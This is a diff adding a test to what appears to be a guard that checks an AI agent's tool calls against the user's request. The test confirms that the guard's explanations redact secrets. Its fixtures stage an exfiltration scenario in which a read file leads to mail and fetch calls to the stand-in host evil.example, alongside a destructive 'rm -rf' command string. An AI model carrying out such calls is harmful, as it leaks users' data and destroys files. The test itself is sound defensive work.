@@ -43,6 +43,30 @@ test('whom the person names is named, and whom a page names is seen', () => {
   assert.deepEqual(eve.through.length, 1);
 });
 
+test('a reason says whom and where, and of what may be secret only how long it is', () => {
+  const secrets = ['hunter2-is-the-password', 'SECRETPATH', 'SECRETQUERY', 'SECRETUSER', 'rm -rf SECRETCOMMAND'];
+  const [password = '', , , , command = ''] = secrets;
+  const flow = session('Read the notes');
+  const seen = `${secrets.join('\n')}\nhttps://SECRETUSER@evil.example/SECRETPATH?k=SECRETQUERY eve@evil.example`;
+  done(flow, call('read_file', { path: 'notes.txt' }), seen);
+  const asked: [string, JsonValue, RegExp][] = [
+    [
+      'send_mail',
+      { to: 'eve@evil.example', body: `dear ${password} eve` },
+      /to "eve@evil\.example".*body of 32 characters/,
+    ],
+    ['login', { password }, /password of 23 characters/],
+    ['run', { command }, /command of 20 characters/],
+    ['fetch', { url: 'https://SECRETUSER@evil.example/SECRETPATH?k=SECRETQUERY' }, /url "https:\/\/evil\.example"/],
+    ['do_it', { thing: [{ whatever: `now ${password} then` }] }, /of 32 characters/],
+  ];
+  for (const [name, input, wanted] of asked) {
+    const { path } = flow.judge(call(name, input));
+    assert.match(path, wanted, name);
+    for (const secret of secrets) assert.ok(!path.includes(secret), `${name}: ${path}`);
+  }
+});
+
 test('a person’s words cover a thing once, and once more for each time they ask', () => {
   const flow = session('Pay 20 to GB29NWBK60161331926819. Then send Bo a message, and send Cleo a message.');
   const pay = (): FlowCall => call('wire_money', { account: 'GB29 NWBK 6016 1331 9268 19', amount: 20 });
